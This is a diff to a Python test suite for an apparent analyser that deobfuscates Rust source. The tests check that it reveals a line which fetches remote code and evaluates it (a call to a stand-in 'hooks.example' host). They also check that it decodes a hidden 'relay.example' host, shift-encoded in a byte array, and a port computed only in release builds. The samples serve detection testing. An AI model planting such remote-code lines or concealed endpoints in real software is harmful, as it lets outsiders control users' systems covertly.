@@ -797,3 +797,37 @@ fn start() {
     found = unit_flows({"src/lib.rs": source.encode()}, "sample")
     assert [r.text for r in found.revealed] == ['eval(fetch("https://hooks.example/r"))']
     assert [(f.action, f.sink) for f in found.flows] == [("run", "evaluated run")]
+
+
+def test_associated_functions_and_methods_are_told_apart_by_their_type() -> None:
+    # `new` and `apply` are defined for two types: each call goes to its own type's
+    source = """
+struct Shift { by: u8 }
+struct Other { n: u32 }
+impl Other {
+    fn new() -> Self { Other { n: 1 } }
+    fn apply(&self, data: &[u8]) -> Vec<u8> { data.to_vec() }
+}
+impl Shift {
+    fn new(by: u8) -> Self { Self { by } }
+    fn apply(&self, data: &[u8]) -> Vec<u8> {
+        data.iter().map(|b| b.wrapping_sub(self.by)).collect()
+    }
+}
+const DATA: [u8; 13] = [117, 104, 111, 100, 124, 49, 104, 123, 100, 112, 115, 111, 104];
+fn host() -> String { String::from_utf8(Shift::new(3).apply(&DATA)).unwrap() }
+"""
+    assert run(source, "host()") == "relay.example"
+
+
+def test_release_builds_products_ranges_and_durations() -> None:
+    source = """
+const W: [u64; 3] = [2, 3, 7];
+fn port() -> String {
+    let scale = if cfg!(debug_assertions) { 1 } else { W.iter().product::<u64>() };
+    let t = std::time::Duration::from_secs(scale);
+    let ok = (40..50).contains(&t);
+    format!("relay.example:{}", if ok { 4000 + scale } else { 0 })
+}
+"""
+    assert run(source, "port()") == "relay.example:4042"
